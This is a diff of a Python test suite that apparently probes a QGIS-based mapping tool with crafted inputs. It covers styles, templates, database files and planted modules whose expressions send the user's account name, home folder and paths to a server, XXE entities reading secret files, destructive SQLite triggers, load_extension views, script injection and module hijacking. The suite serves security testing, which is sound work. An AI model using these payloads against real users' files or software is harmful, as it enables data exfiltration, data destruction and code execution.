@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 import sqlite3
 from contextlib import closing
 from html import escape
@@ -24,6 +25,9 @@ def styled(site: Site, table: str, renderer: str = "", more: str = "") -> str:
             if renderer:
                 start, end = style.index("<renderer-v2"), style.index("</renderer-v2>") + len("</renderer-v2>")
                 style = style[:start] + renderer + style[end:]
+            if more.startswith("<labeling"):
+                style = re.sub(r"<labeling.*?</labeling>", "", style, flags=re.DOTALL)
+                style = re.sub(r'labelsEnabled="0"', 'labelsEnabled="1"', style)
             style = style.replace("</qgis>", f"{more}</qgis>")
             database.execute("UPDATE layer_styles SET styleQML = ? WHERE id = ?", (style, number))
         if not rows:
@@ -56,33 +60,44 @@ def symbol(kind: str, layer: str, options: str, more: str = "") -> str:
 
 def report(site: Site) -> str:
     """An expression that gives the address of a server with what it wants to know of the analyst."""
-    return f"'{site.url()}?u=' || @user_account_name || env('HOME') || @project_path || layer_property(@layer, 'source')"
+    known = "@user_account_name, env('HOME'), @project_path, layer_property(@layer, 'source')"
+    return f"concat('{site.url()}?u=', {known})"
 
 
 @attack("styles", "style-svg-fill", "a stored style that fills areas with a picture on a server", *DRAWN)
 def _(site):
-    return styled(site, "control_map", symbol("fill", "SVGFill", option("svgFile", site.url("f.svg")) + option("width", "5")))
+    return styled(
+        site, "control_map", symbol("fill", "SVGFill", option("svgFile", site.url("f.svg")) + option("width", "5"))
+    )
 
 
-@attack("styles", "style-raster-fill", "the same with a raster, and with one of the analyst's files", *OPENED)
+@attack("styles", "style-raster-fill", "the same with a raster", "open", "print")
 def _(site):
-    return styled(site, "control_map", symbol("fill", "RasterFill", option("imageFile", site.url("f.png")) + option("width", "50")))
+    return styled(
+        site,
+        "control_map",
+        symbol("fill", "RasterFill", option("imageFile", site.url("f.png")) + option("width", "50")),
+    )
 
 
 @attack("styles", "style-svg-marker", "markers of events from a server", *DRAWN)
 def _(site):
-    return styled(site, "events", symbol("marker", "SvgMarker", option("name", site.url("m.svg")) + option("size", "5")))
+    return styled(
+        site, "events", symbol("marker", "SvgMarker", option("name", site.url("m.svg")) + option("size", "5"))
+    )
 
 
 @attack("styles", "style-raster-marker", "raster markers of events from a server", "open")
 def _(site):
-    return styled(site, "events", symbol("marker", "RasterMarker", option("imageFile", site.url("m.png")) + option("size", "9")))
+    return styled(
+        site, "events", symbol("marker", "RasterMarker", option("imageFile", site.url("m.png")) + option("size", "9"))
+    )
 
 
 @attack("styles", "style-data-defined", "a data-defined path that reports account, home folder and file", *DRAWN)
 def _(site):
     own = option("svgFile", "x.svg") + option("width", "5")
-    return styled(site, "control_map", symbol("fill", "SVGFill", own, defined("svgFile", report(site))))
+    return styled(site, "control_map", symbol("fill", "SVGFill", own, defined("file", report(site))))
 
 
 @attack("styles", "style-data-defined-marker", "the same of a marker", "open")
@@ -117,17 +132,25 @@ def labels(expression: str, more: str = "") -> str:
 
 @attack("styles", "style-html-labels", "labels with HTML that loads pictures and tables", *DRAWN)
 def _(site):
-    picture = f"'<img src=\"{site.url('l.png')}\"><link rel=stylesheet href=\"{site.url('l.css')}\">' || {report(site)}"
+    picture = f'\'<img src="{site.url("l.png")}"><link rel=stylesheet href="{site.url("l.css")}">\' || {report(site)}'
     return styled(site, "control_map", more=labels(picture))
 
 
 @attack("styles", "style-label-background", "a background of labels from a server", *OPENED)
 def _(site):
-    background = f'<background shapeDraw="1" shapeType="5" shapeSVGFile="{site.url("b.svg")}" shapeSizeX="5" shapeSizeY="5"/>'
+    background = (
+        f'<background shapeDraw="1" shapeType="5" shapeSVGFile="{site.url("b.svg")}" shapeSizeX="5" shapeSizeY="5"/>'
+    )
     return styled(site, "control_map", more=labels("'x'", background))
 
 
-@attack("styles", "style-actions", "actions, form code, map tips, joins, virtual fields and notes in a style", "open")
+@attack(
+    "styles",
+    "style-actions",
+    "actions, form code, map tips, joins, virtual fields and notes in a style",
+    "open",
+    absent="(actions|form code|map tip|notes|joins|virtual fields): ",
+)
 def _(site):
     ran = escape(f"open({str(site.home / 'ran')!r}, 'w')")
     evil = (
@@ -156,7 +179,10 @@ def _(site):
 
 @attack("styles", "style-sld", "a stored SLD with pictures on a server", "open")
 def _(site):
-    site.sql(CASE, f"UPDATE layer_styles SET styleQML = '', styleSLD = '<StyledLayerDescriptor><x href=\"{site.url('s')}\"/></StyledLayerDescriptor>'")
+    site.sql(
+        CASE,
+        f"UPDATE layer_styles SET styleQML = '', styleSLD = '<StyledLayerDescriptor><x href=\"{site.url('s')}\"/></StyledLayerDescriptor>'",
+    )
     return CASE
 
 
@@ -172,19 +198,41 @@ def _(site):
     return CASE
 
 
-@attack("cases", "triggers", "triggers on each table of a case that empty it and attach files", "add_to", "open", "corridors")
+@attack(
+    "cases",
+    "triggers",
+    "triggers on each table of a case that empty it and attach files",
+    "add_to",
+    "open",
+    "corridors",
+)
 def _(site):
-    tables = ("territories", "maps", "files", "case_settings", "factions", "layer_styles", "gpkg_contents", "derived_classes")
+    tables = (
+        "territories",
+        "maps",
+        "files",
+        "case_settings",
+        "factions",
+        "layer_styles",
+        "gpkg_contents",
+        "derived_classes",
+    )
     for table in tables:
         for moment in ("INSERT", "UPDATE", "DELETE"):
-            site.sql(CASE, f"CREATE TRIGGER evil_{table}_{moment} AFTER {moment} ON {table} BEGIN DELETE FROM territories; END")
+            site.sql(
+                CASE,
+                f"CREATE TRIGGER evil_{table}_{moment} AFTER {moment} ON {table} BEGIN DELETE FROM territories; END",
+            )
     return CASE
 
 
 @attack("cases", "trigger-rows", "a trigger that adds rows of a faction of its own at each import", "add_to")
 def _(site):
     columns = "faction, valid_from, source, basis"
-    site.sql(CASE, f"CREATE TRIGGER evil AFTER INSERT ON maps BEGIN INSERT INTO territories ({columns}) VALUES ('{EVIL}', '2017-01-01T00:00:00Z', 's', 'b'); END")
+    site.sql(
+        CASE,
+        f"CREATE TRIGGER evil AFTER INSERT ON maps BEGIN INSERT INTO territories ({columns}) VALUES ('{EVIL}', '2017-01-01T00:00:00Z', 's', 'b'); END",
+    )
     return CASE
 
 
@@ -218,7 +266,11 @@ def _(site):
 @attack("cases", "view-loads", "a view that loads an extension of SQLite and reads a file", "open", "add_to")
 def _(site):
     calls = f"load_extension('{site.home / 'x.so'}') || readfile('{site.home / 'secret.txt'}')"
-    site.sql(CASE, "ALTER TABLE factions RENAME TO factions_kept", f"CREATE VIEW factions AS SELECT id, {calls} AS name, aliases, bloc, colour FROM factions_kept")
+    site.sql(
+        CASE,
+        "ALTER TABLE factions RENAME TO factions_kept",
+        f"CREATE VIEW factions AS SELECT id, {calls} AS name, aliases, bloc, colour FROM factions_kept",
+    )
     return CASE
 
 
@@ -236,7 +288,11 @@ def _(site):
 def _(site):
     evil = f"[% @user_account_name %] [% env('HOME') %] <img src='{site.url('i.png')}'> <script src='{site.url('j.js')}'></script>"
     for key in ("title", "note", "sources"):
-        site.sql(CASE, f"DELETE FROM case_settings WHERE key = '{key}'", f"INSERT INTO case_settings (key, value) VALUES ('{key}', {quoted(json.dumps(evil))})")
+        site.sql(
+            CASE,
+            f"DELETE FROM case_settings WHERE key = '{key}'",
+            f"INSERT INTO case_settings (key, value) VALUES ('{key}', {quoted(json.dumps(evil))})",
+        )
     site.sql(CASE, f"UPDATE factions SET name = {quoted(evil)}", f"UPDATE territories SET source = {quoted(evil)}")
     return CASE
 
@@ -268,7 +324,9 @@ def _(site):
     return CASE
 
 
-@attack("cases", "pragma", "a case whose header asks for a journal elsewhere and an endless page count", "open", "add_to")
+@attack(
+    "cases", "pragma", "a case whose header asks for a journal elsewhere and an endless page count", "open", "add_to"
+)
 def _(site):
     content = bytearray(site.at(CASE).read_bytes())
     content[28:32] = (0x7FFFFFFF).to_bytes(4, "big")
@@ -288,13 +346,18 @@ def _(site):
 @attack("cases", "vrt-as-case", "a virtual source and a link in the place of a case", "open", "print", "add_to")
 def _(site):
     site.at(CASE).unlink()
-    return site.write(CASE, f"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/vsicurl/{site.url()}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>")
+    return site.write(
+        CASE,
+        f"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/vsicurl/{site.url()}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
+    )
 
 
 # Themes
 
 
-@attack("themes", "theme-paths", "a theme with paths, addresses and expressions for labels, patterns and colours", "theme")
+@attack(
+    "themes", "theme-paths", "a theme with paths, addresses and expressions for labels, patterns and colours", "theme"
+)
 def _(site):
     theme = json.loads((RESOURCES / "themes" / "conflict_convention.json").read_text(encoding="utf-8"))
     for entry in theme["classes"]:
@@ -385,7 +448,10 @@ LABEL, PICTURE, FRAME, HTML, MAP = 65641, 65640, 65647, 65648, 65639
 
 def html_item(text: str = "", url: str = "") -> str:
     mode = 'contentMode="1"' if text else 'contentMode="0"'
-    frame = item(FRAME, 'uuid="{a}" templateUuid="{a}" multiFrame="{b}" multiFrameTemplateUuid="{b}" sectionWidth="40" sectionHeight="40"')
+    frame = item(
+        FRAME,
+        'uuid="{a}" templateUuid="{a}" multiFrame="{b}" multiFrameTemplateUuid="{b}" sectionWidth="40" sectionHeight="40"',
+    )
     return frame + (
         f'<LayoutMultiFrame type="{HTML}" uuid="{{b}}" templateUuid="{{b}}" {mode} url="{escape(url)}" html="{escape(text)}" '
         'evaluateExpressions="true" resizeMode="0" maxBreakDistance="10"><childFrame uuid="{a}" templateUuid="{a}"/></LayoutMultiFrame>'
@@ -414,7 +480,9 @@ def _(site):
     return template(site, item(LABEL, f'htmlState="1" labelText="{escape(text)}" halign="1" valign="32"'))
 
 
-@attack("templates", "label-expression", "a label with variables of the account, of the machine and of paths", "template")
+@attack(
+    "templates", "label-expression", "a label with variables of the account, of the machine and of paths", "template"
+)
 def _(site):
     text = f"[% @user_account_name %] [% @user_full_name %] [% env('HOME') %] [% @project_path %] [% {report(site)} %]"
     return template(site, item(LABEL, f'htmlState="0" labelText="{escape(text)}" halign="1" valign="32"'))
@@ -431,12 +499,17 @@ def _(site):
 
 @attack("templates", "picture-url", "pictures, vector and raster, on a server", "template")
 def _(site):
-    return template(site, item(PICTURE, f'file="{site.url("p.svg")}" mode="0"') + item(PICTURE, f'file="{site.url("p.png")}" mode="1"'))
+    return template(
+        site,
+        item(PICTURE, f'file="{site.url("p.svg")}" mode="0"') + item(PICTURE, f'file="{site.url("p.png")}" mode="1"'),
+    )
 
 
 @attack("templates", "picture-defined", "a picture whose path is an expression", "template")
 def _(site):
-    text = item(PICTURE, 'file="" mode="0"').replace("<LayoutObject/>", f"<LayoutObject>{layout_property('dataDefinedPictureSource', report(site))}</LayoutObject>")
+    text = item(PICTURE, 'file="" mode="0"').replace(
+        "<LayoutObject/>", f"<LayoutObject>{layout_property('dataDefinedPictureSource', report(site))}</LayoutObject>"
+    )
     return template(site, text)
 
 
@@ -454,7 +527,9 @@ def _(site):
 
 @attack("templates", "picture-outside", "a picture in the analyst's home folder", "template")
 def _(site):
-    (site.home / "private.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg"><text>CanarySecret7f3a</text></svg>', encoding="utf-8")
+    (site.home / "private.svg").write_text(
+        '<svg xmlns="http://www.w3.org/2000/svg"><text>CanarySecret7f3a</text></svg>', encoding="utf-8"
+    )
     return template(site, item(PICTURE, f'file="{site.home}/private.svg" mode="0"'))
 
 
@@ -464,19 +539,34 @@ def _(site):
         f'<LayerSet><Layer source="/vsicurl/{site.url("m.geojson")}" provider="ogr" name="x">x</Layer>'
         f'<Layer source="type=xyz&amp;url={site.url("t")}/{{z}}/{{x}}/{{y}}.png" provider="wms" name="y">y</Layer></LayerSet>'
     )
-    return template(site, item(MAP, 'keepLayerSet="true" followPreset="false"', f"<Extent xmin='36' ymin='35' xmax='37' ymax='36'/>{layers}"))
+    return template(
+        site,
+        item(
+            MAP,
+            'keepLayerSet="true" followPreset="false"',
+            f"<Extent xmin='36' ymin='35' xmax='37' ymax='36'/>{layers}",
+        ),
+    )
 
 
 @attack("templates", "marker", "a marker, a shape and a page with pictures of a server", "template")
 def _(site):
-    fill = symbol("fill", "SVGFill", option("svgFile", site.url("s.svg"))).partition("<symbols>")[2].partition("</symbols>")[0]
+    fill = (
+        symbol("fill", "SVGFill", option("svgFile", site.url("s.svg")))
+        .partition("<symbols>")[2]
+        .partition("</symbols>")[0]
+    )
     return template(site, item(65643, 'shapeType="1" cornerRadiusMeasure="0,mm"', fill))
 
 
 @attack("templates", "atlas", "an atlas whose file names and filter are expressions", "template")
 def _(site):
     pattern = escape(f"'../../' || env('HOME') || '/{EVIL}'")
-    return template(site, "", atlas=f'<Atlas enabled="1" filenamePattern="{pattern}" pageNameExpression="{pattern}" hideCoverage="0"/>')
+    return template(
+        site,
+        "",
+        atlas=f'<Atlas enabled="1" filenamePattern="{pattern}" pageNameExpression="{pattern}" hideCoverage="0"/>',
+    )
 
 
 @attack("templates", "custom-properties", "an author, keywords and variables of the template itself", "template")
@@ -487,7 +577,9 @@ def _(site):
 
 @attack("templates", "entities", "a template with entities of files and of a server", "template")
 def _(site):
-    return template(site, "", f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{site.home}/secret.txt"><!ENTITY b SYSTEM "{site.url()}">]>')
+    return template(
+        site, "", f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{site.home}/secret.txt"><!ENTITY b SYSTEM "{site.url()}">]>'
+    )
 
 
 @attack("templates", "large", "a template of 300 MB", "template", megabytes=700)
@@ -524,7 +616,9 @@ def _(site):
 @attack("place", "cwd-modules", "modules in the folder in which QGIS is started", "qgis_process", seconds=40)
 def _(site):
     for name in ("numpy", "pip", "shapely", "osgeo", "json", "sitecustomize", "processing"):
-        (site.cwd / f"{name}.py").write_text(f"open({str(site.home / 'ran')!r}, 'w')\nraise ImportError\n", encoding="utf-8")
+        (site.cwd / f"{name}.py").write_text(
+            f"open({str(site.home / 'ran')!r}, 'w')\nraise ImportError\n", encoding="utf-8"
+        )
     site.map()
 
 
@@ -536,7 +630,9 @@ def _(site):
         (site.cwd / name).write_text(text, encoding="utf-8")
     from .attack import gml
 
-    return site.write("2017-10-01.gml", gml('xmlns="http://x" xmlns:x="http://x"').replace("<m>", "<x:m>").replace("</m>", "</x:m>"))
+    return site.write(
+        "2017-10-01.gml", gml('xmlns="http://x" xmlns:x="http://x"').replace("<m>", "<x:m>").replace("</m>", "</x:m>")
+    )
 
 
 @attack("place", "crs-grid", "a map in a reference system that asks PROJ for a grid on a server", "folder", "preview")
@@ -545,12 +641,21 @@ def _(site):
     return site.map(crs={"type": "name", "properties": {"name": name}})
 
 
-@attack("place", "crs-grid-file", "a Shapefile in a reference system whose grid is a file of the analyst", "folder", "preview")
+@attack(
+    "place",
+    "crs-grid-file",
+    "a Shapefile in a reference system whose grid is a file of the analyst",
+    "folder",
+    "preview",
+)
 def _(site):
     from osgeo import gdal
 
     from .attack import geojson
 
     gdal.VectorTranslate(str(site.at("2017-10-01.shp")), geojson({"faction": OWN}), format="ESRI Shapefile")
-    site.write("2017-10-01.prj", f'GEOGCS["x",DATUM["y",SPHEROID["z",6378137,298],EXTENSION["PROJ4_GRIDS","{site.home}/secret.txt,{site.url("g.gsb")}"]],PRIMEM["G",0],UNIT["d",0.0174532925199433]]')
+    site.write(
+        "2017-10-01.prj",
+        f'GEOGCS["x",DATUM["y",SPHEROID["z",6378137,298],EXTENSION["PROJ4_GRIDS","{site.home}/secret.txt,{site.url("g.gsb")}"]],PRIMEM["G",0],UNIT["d",0.0174532925199433]]',
+    )
     return "2017-10-01.shp"
